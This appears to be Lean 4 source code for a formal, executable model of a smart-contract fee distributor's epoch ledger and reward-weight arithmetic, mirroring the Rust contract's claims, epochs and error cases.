    `atomics * 10^18 / other` (full width), `Err` on ÷0 / overflow. -/
@[inline] def ddivC (a b : Nat) : Res Nat := mulRatioC U256MAX a E18 b

/-- `Decimal256 * Decimal256` (unchecked `Mul`): panics on overflow. Used by `checked_pow` for the
    final `x * y` with `y = 1`. -/
@[inline] def dmulP (a b : Nat) : Res Nat :=
  if a * b / E18 ≤ U256MAX then .ok (a * b / E18) else .panic

/-- `calculate_weight(unbonding_duration: u64, amount: Uint128) -> Result<Uint128, _>` -/
def calcWeight (d amt : Nat) : Res Nat := do
  -- if !(86400..=31556926).contains(&unbonding_duration) { return Err(InvalidWeight) }
  guardErr (decide (INCENTIVE_WEIGHT_MIN_DURATION ≤ d) && decide (d ≤ INCENTIVE_WEIGHT_MAX_DURATION))
  -- Decimal256::from_atomics(x, 0).unwrap()
  let dd ← pmul U256MAX d E18
  let am ← pmul U256MAX amt E18
  -- unbonding_duration.checked_pow(2)? : x = x.checked_mul(x)?; return x * one
  let sq0 ← dmulC dd dd
  let sq ← dmulP sq0 E18
  -- .checked_mul(raw(109498841))? .checked_div(raw(7791996353100889432894))?
  let m ← dmulC sq INCENTIVE_WEIGHT_SQ_COEFF
  let part ← ddivC m INCENTIVE_WEIGHT_SQ_DENOM
  -- unbonding_duration.checked_mul(raw(249042009202369))?.checked_div(raw(7791996353100889432894))?
  let n1 ← dmulC dd INCENTIVE_WEIGHT_LIN_COEFF
  let next ← ddivC n1 INCENTIVE_WEIGHT_LIN_DENOM
  -- Decimal256::from_ratio(246210981355969u64, 246918738317569u64)
  let fin ← dec256FromRatio INCENTIVE_WEIGHT_CONST_NUM INCENTIVE_WEIGHT_CONST_DEN
  let s1 ← cadd U256MAX part next
  let s2 ← cadd U256MAX s1 fin
  -- amount.checked_mul(..)?.atomics().checked_div(10^18)?.try_into()?
  let w ← dmulC am s2
  let wi ← cdiv w E18
  let w128 ← to128 wi
  -- Ok(weight.max(amount_uint))
  pure (max w128 amt)

end WW
