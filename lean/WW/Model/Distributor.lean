/-
  Executable model of the fee distributor's epoch ledger
  (`contracts/liquidity_hub/fee_distributor/src/{commands,contract,state}.rs`).

  MULTI-ASSET ledgers.  `config.distribution_asset` is part of the state and the owner may switch it at
  any time (`UpdateConfig { distribution_asset }`, op `setDist`); the collector forwards in whatever the
  distribution asset is when the epoch is created, and the unclaimed fees of the epoch leaving the grace
  window are merged into the new epoch whatever their asset.  The `Vec<Asset>` fields of an `Epoch` are
  therefore association lists `(asset index, amount)` IN VECTOR ORDER (`Ledger`), exactly as the Rust
  keeps them; `[]` = the empty vector.  Order and emptiness matter:
   * `query_claimable` filters on `available.is_empty()` (an expired epoch has `available = []`, an
     epoch emptied by claims has `available = [(a, 0)]`);
   * `claim` walks `epoch.total` in order and records every reward in `epoch.claimed` with
     `asset::aggregate_assets(epoch.claimed, [reward])`: added to the entry of that asset, or PUSHED AT THE
     END when there is none — so `claimed` lists the assets in the order in which they were first paid
     (not necessarily the order of `total`: a reward that floors to zero is skipped).

  What is outside the model is a parameter:
   * `newEpoch … inflow` – `inflow` is the amount (in the current distribution asset) that the collector's
     `ForwardFeesResponse` carried as `epoch.total` and transferred (`none` = nothing to forward); any value.
   * `claim … view ans` – `view` is the lair's `Bonded{address}` answer (`none` = no bonded assets,
     `some fb` = `first_bonded_epoch_id`), `ans id` the lair's `Weight{address, epoch.start_time,
     epoch.global_index}` answer for epoch `id` (`share` atomics, or the query failed / panicked).
     The ledger theorems hold for every such answer.
-/
import WW.Cw.Arith
import WW.Gen.Constants
namespace WW.Distributor

/-- a `Vec<Asset>`: `(asset index, amount)` in vector order -/
abbrev Ledger := List (Nat × Nat)

/-- `fee_distributor::Epoch` (without `global_index`, which only travels to the lair) -/
structure Epoch where
  id : Nat
  start : Nat
  total : Ledger
  avail : Ledger
  claimed : Ledger
deriving Repr, DecidableEq

/-- `x` if the entry's asset `k` is the one we look at (`a`), else nothing -/
def sel (k a x : Nat) : Nat := if k = a then x else 0

/-- amount of asset `a` on a ledger (sum over its entries for `a`; there is at most one, `Inv`) -/
def amtOf (a : Nat) : Ledger → Nat
  | [] => 0
  | (k, x) :: r => sel k a x + amtOf a r

def keys (l : Ledger) : List Nat := l.map (·.1)

/-- `.iter().find(|x| x.info == k).is_some()` -/
def hasKey (k : Nat) : Ledger → Bool
  | [] => false
  | (j, _) :: r => if j = k then true else hasKey k r

/-- amount of an `Option Nat` (a ≤1-element vector in the current distribution asset) -/
def amt : Option Nat → Nat
  | some x => x
  | none => 0

/-- the collector's `epoch.total`: nothing, or one entry in the distribution asset -/
def inflowLedger (dist : Nat) : Option Nat → Ledger
  | some x => [(dist, x)]
  | none => []

structure Cfg where
  genesis : Nat
  duration : Nat
  owner : Nat
deriving Repr, DecidableEq

def addAt (f : Nat → Nat) (i v : Nat) : Nat → Nat := fun j => if j = i then f j + v else f j
def subAt (f : Nat → Nat) (i v : Nat) : Nat → Nat := fun j => if j = i then f j - v else f j

structure St where
  /-- `EPOCHS`, newest first (`range(.., Descending)`) -/
  epochs : List Epoch
  /-- `LAST_CLAIMED_EPOCH` -/
  last : List (Nat × Nat)
  /-- `config.grace_period` -/
  grace : Nat
  /-- bank balance per asset -/
  bal : Nat → Nat
  /-- `config.distribution_asset` -/
  dist : Nat

def St.init (grace dist : Nat) : St := { epochs := [], last := [], grace := grace, bal := fun _ => 0, dist := dist }

/-- answer of the bonding contract to one `Weight` query -/
inductive LairAns where
  | share (atomics : Nat)
  | err
  | panic
deriving Repr, DecidableEq

def lookup (u : Nat) : List (Nat × Nat) → Option Nat
  | [] => none
  | (k, v) :: r => if k = u then some v else lookup u r

def setLast (u v : Nat) : List (Nat × Nat) → List (Nat × Nat)
  | [] => [(u, v)]
  | (k, w) :: r => if k = u then (k, v) :: r else (k, w) :: setLast u v r

/-- sum over the epochs of `available` / `claimed` in asset `a` -/
def sumAvail (a : Nat) : List Epoch → Nat
  | [] => 0
  | e :: es => amtOf a e.avail + sumAvail a es

def sumClaimed (a : Nat) : List Epoch → Nat
  | [] => 0
  | e :: es => amtOf a e.claimed + sumClaimed a es

/-- `get_current_epoch`: the newest epoch or `Epoch::default()` -/
def current (s : St) : Epoch :=
  match s.epochs with
  | e :: _ => e
  | [] => { id := 0, start := 0, total := [], avail := [], claimed := [] }

/-- the id and start time `create_new_epoch` gives the next epoch, with its three ways to fail -/
def nextEpoch (cfg : Cfg) (s : St) (now : Nat) : Res (Nat × Nat) :=
  let cur := current s
  -- env.block.time.minus_nanos(current_epoch.start_time.nanos())  (panics on underflow)
  if now < cur.start then .panic
  else if now - cur.start < cfg.duration then .err            -- CurrentEpochNotExpired
  else
    if cur.id = 0 ∧ cur.start = 0 then
      if now < cfg.genesis then .err                          -- GenesisEpochNotStarted
      else if cur.id + 1 ≤ U64MAX then .ok (cur.id + 1, cfg.genesis) else .err
    else if cur.start + cfg.duration ≤ U64MAX then             -- plus_nanos (panics on overflow)
      if cur.id + 1 ≤ U64MAX then .ok (cur.id + 1, cur.start + cfg.duration) else .err
    else .panic

/-- `get_expiring_epoch` + the write-back in `reply`: the epoch at position `k` of the descending
    list (k = grace−1, the oldest of the `grace` newest) gets `available = []`; returns what it held
    (ALL assets of it).  Position beyond the list = nothing is expiring yet. -/
def takeOut : Nat → List Epoch → List Epoch × Ledger
  | _, [] => ([], [])
  | 0, e :: es => ({ e with avail := [] } :: es, e.avail)
  | k + 1, e :: es => let r := takeOut k es; (e :: r.1, r.2)

/-! ### `asset::aggregate_assets` -/

/-- `existing.amount.checked_add(x)` on the FIRST entry for `k` -/
def bumpFirst (k x : Nat) : Ledger → Res Ledger
  | [] => .ok []
  | (j, y) :: r =>
    if j = k then (if y + x ≤ U128MAX then .ok ((j, y + x) :: r) else .err)
    else match bumpFirst k x r with
      | .ok r' => .ok ((j, y) :: r')
      | .err => .err
      | .panic => .panic

/-- one round of the loop over `other_assets`: add to the first entry of the same asset, else push -/
def aggOne (l : Ledger) (k x : Nat) : Res Ledger :=
  if hasKey k l = true then bumpFirst k x l else .ok (l ++ [(k, x)])

/-- `asset::aggregate_assets(l, m)` -/
def agg (l : Ledger) : Ledger → Res Ledger
  | [] => .ok l
  | (k, x) :: r => match aggOne l k x with
    | .ok l' => agg l' r
    | .err => .err
    | .panic => .panic

/-- the distributor's `reply` to the collector's answer: `inflow` = `epoch.total` set by the collector
    (`none` when it had nothing to forward), in the CURRENT distribution asset — that amount has
    arrived in the contract's balance.  The new epoch's total is the inflow aggregated with everything
    the expiring epoch still had available, in every asset. -/
def receiveEpoch (s : St) (id start : Nat) (inflow : Option Nat) : Res St :=
  if s.grace = 0 then .err   -- unreachable: grace_period ≥ 1 is validated at instantiate and on update
  else
    let r := takeOut (s.grace - 1) s.epochs
    match agg (inflowLedger s.dist inflow) r.2 with
    | .ok tot =>
      .ok { s with epochs := { id := id, start := start, total := tot, avail := tot, claimed := [] } :: r.1,
                   bal := addAt s.bal s.dist (amt inflow) }
    | .err => .err
    | .panic => .panic

/-- `NewEpoch` with the collector's forwarding abstracted to its result -/
def newEpoch (cfg : Cfg) (s : St) (now : Nat) (inflow : Option Nat) : Res St :=
  match nextEpoch cfg s now with
  | .ok (id, start) => receiveEpoch s id start inflow
  | .err => .err
  | .panic => .panic

/-- lower bound (exclusive) on the epoch ids an address may claim: its last claimed epoch, else the
    epoch in which it first bonded; `none` = never bonded and never claimed → nothing -/
def claimBound (s : St) (u : Nat) (view : Option Nat) : Option Nat :=
  match lookup u s.last with
  | some lc => some lc
  | none => view

def isClaimable (b : Nat) (e : Epoch) : Bool := decide (b < e.id) && !e.avail.isEmpty

/-- ids of `query_claimable`: the `n` newest epochs, above the bound, with a non-empty `available` -/
def claimableIds (b : Nat) : Nat → List Epoch → List Nat
  | 0, _ => []
  | _, [] => []
  | n + 1, e :: es => if isClaimable b e then e.id :: claimableIds b n es else claimableIds b n es

def claimable (s : St) (u : Nat) (view : Option Nat) : List Nat :=
  match claimBound s u view with
  | some b => claimableIds b s.grace s.epochs
  | none => []

/-! ### `claim` -/

/-- `for available_fee in epoch.available.iter_mut() { if info == k { amount.checked_sub(r)? } }` -/
def subAll (k r : Nat) : Ledger → Res Ledger
  | [] => .ok []
  | (j, y) :: rest =>
    if j = k then
      if r ≤ y then
        match subAll k r rest with
        | .ok t => .ok ((j, y - r) :: t)
        | .err => .err
        | .panic => .panic
      else .err
    else
      match subAll k r rest with
      | .ok t => .ok ((j, y) :: t)
      | .err => .err
      | .panic => .panic

/-- the new `epoch.claimed`: `asset::aggregate_assets(epoch.claimed, vec![Asset { info: k, amount: r }])?`
    — `checked_add` on the entry for `k` (overflow = `Err`), or a new entry pushed at the end -/
def recordClaimed (k r : Nat) (cl : Ledger) : Res Ledger := aggOne cl k r

/-- body of `for fee in epoch.total.iter()` for the entry `(k, t)` of `total`; `sh` = the address's
    share, `av` / `cl` the epoch's `available` / `claimed` so far, `acc` = `claimable_fees` so far -/
def claimFee (sh k t : Nat) (av cl acc : Ledger) : Res (Ledger × Ledger × Ledger) :=
  if t * sh / E18 > U128MAX then .err                          -- checked_mul_floor
  else if t * sh / E18 = 0 then .ok (av, cl, acc)              -- nothing to claim
  else if hasKey k av = false then .err                        -- "Invalid fee"
  else
    -- In the Rust the `InvalidReward` result of the soundness check is discarded (`let _ = ….map(..)
    -- .ok_or_else(..)?` unwraps only the outer `Result`); the transaction still fails, at
    -- `available_fee.amount.checked_sub(reward)?` below. Same observable: Err.
    match aggOne acc k (t * sh / E18) with                     -- aggregate_assets(claimable_fees, [reward])
    | .ok acc' =>
      match subAll k (t * sh / E18) av with
      | .ok av' =>
        match recordClaimed k (t * sh / E18) cl with
        | .ok cl' => .ok (av', cl', acc')
        | .err => .err
        | .panic => .panic
      | .err => .err
      | .panic => .panic
    | .err => .err
    | .panic => .panic

/-- the loop over `epoch.total` -/
def claimFees (sh : Nat) : Ledger → Ledger → Ledger → Ledger → Res (Ledger × Ledger × Ledger)
  | [], av, cl, acc => .ok (av, cl, acc)
  | (k, t) :: rest, av, cl, acc =>
    match claimFee sh k t av cl acc with
    | .ok (av', cl', acc') => claimFees sh rest av' cl' acc'
    | .err => .err
    | .panic => .panic

/-- body of the `claim` loop for one epoch: new epoch record and the rewards so far -/
def claimEpoch (e : Epoch) (a : LairAns) (acc : Ledger) : Res (Epoch × Ledger) :=
  match a with
  | .err => .err
  | .panic => .panic
  | .share sh =>
    match claimFees sh e.total e.avail e.claimed acc with
    | .ok (av', cl', acc') => .ok ({ e with avail := av', claimed := cl' }, acc')
    | .err => .err
    | .panic => .panic

/-- the `claim` loop over the window (the `n` newest epochs), newest first; `acc` = `claimable_fees` -/
def claimWalk (ans : Nat → LairAns) (b : Nat) : Nat → List Epoch → Ledger → Res (List Epoch × Ledger)
  | 0, es, acc => .ok (es, acc)
  | _, [], acc => .ok ([], acc)
  | n + 1, e :: es, acc =>
    if isClaimable b e then
      match claimEpoch e (ans e.id) acc with
      | .ok (e', acc') =>
        match claimWalk ans b n es acc' with
        | .ok (es', t) => .ok (e' :: es', t)
        | .err => .err
        | .panic => .panic
      | .err => .err
      | .panic => .panic
    else
      match claimWalk ans b n es acc with
      | .ok (es', t) => .ok (e :: es', t)
      | .err => .err
      | .panic => .panic

/-- the bank sends, one per claimed asset, in order; any of them failing fails the transaction -/
def payAll : Ledger → (Nat → Nat) → Res (Nat → Nat)
  | [], b => .ok b
  | (k, x) :: r, b => if x ≤ b k then payAll r (subAt b k x) else .err

/-- `Claim {}` by `u`; returns the new state and what was sent to `u`, per asset -/
def claim (s : St) (u : Nat) (view : Option Nat) (ans : Nat → LairAns) : Res (St × Ledger) :=
  match claimBound s u view with
  | none => .err                                               -- NothingToClaim
  | some b =>
    match claimableIds b s.grace s.epochs with
    | [] => .err                                               -- NothingToClaim
    | top :: _ =>
      match claimWalk ans b s.grace s.epochs [] with
      | .ok (es', paid) =>
        match payAll paid s.bal with                            -- bank sends
        | .ok bal' => .ok ({ s with epochs := es', last := setLast u top s.last, bal := bal' }, paid)
        | .err => .err
        | .panic => .panic
      | .err => .err
      | .panic => .panic

/-- `UpdateConfig { grace_period }` -/
def updateGrace (cfg : Cfg) (s : St) (sender g : Nat) : Res St :=
  if sender ≠ cfg.owner then .err
  else if g < 1 ∨ g > WW.Gen.DISTRIBUTOR_MAX_GRACE_PERIOD then .err
  else if g < s.grace then .err
  else .ok { s with grace := g }

/-- `UpdateConfig { distribution_asset }`: owner only, any asset, effective immediately; no ledger and
    no balance is touched -/
def setDist (cfg : Cfg) (s : St) (sender a : Nat) : Res St :=
  if sender ≠ cfg.owner then .err
  else .ok { s with dist := a }

/-- somebody sends tokens of asset `a` to the contract -/
def gift (s : St) (a x : Nat) : St := { s with bal := addAt s.bal a x }

/-- operations of the ledger (the history alphabet of C09) -/
inductive Op where
  | newEpoch (now : Nat) (inflow : Option Nat)
  | claim (u : Nat) (view : Option Nat) (ans : Nat → LairAns)
  | grace (sender g : Nat)
  | gift (asset x : Nat)
  | setDist (sender asset : Nat)

def step (cfg : Cfg) (s : St) : Op → Res St
  | .newEpoch now inflow => newEpoch cfg s now inflow
  | .claim u view ans => match claim s u view ans with
    | .ok (s', _) => .ok s'
    | .err => .err
    | .panic => .panic
  | .grace sender g => updateGrace cfg s sender g
  | .gift a x => .ok (gift s a x)
  | .setDist sender a => setDist cfg s sender a

/-- fold a history; failed operations leave the state unchanged -/
def reach (cfg : Cfg) (s : St) : List Op → St
  | [] => s
  | op :: ops => match step cfg s op with
    | .ok s' => reach cfg s' ops
    | _ => reach cfg s ops

end WW.Distributor
